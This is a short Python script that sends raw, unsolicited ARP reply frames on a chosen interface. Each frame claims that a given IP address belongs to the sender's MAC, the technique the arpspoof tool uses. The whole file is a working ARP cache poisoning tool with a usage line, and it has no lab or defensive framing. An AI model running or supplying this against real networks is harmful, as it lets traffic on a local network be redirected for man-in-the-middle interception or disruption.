"""Send N unsolicited ARP replies on IFACE saying that address CLAIM is at this host's MAC, to
TARGET (what arpspoof does). Usage: arp_spoof.py IFACE CLAIM TARGET N"""
import socket
import sys
import time

iface, claim, target, n = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
mac = s.getsockname()[4]
for _ in range(n):
    frame = (
        b"\xff" * 6 + mac + b"\x08\x06"  # Ethernet: broadcast, ARP
        + b"\x00\x01\x08\x00\x06\x04\x00\x02"  # Ethernet/IPv4, reply
        + mac + socket.inet_aton(claim)  # sender: our MAC claims CLAIM
        + b"\xff" * 6 + socket.inet_aton(target)
    )
    s.send(frame)
    time.sleep(0.05)
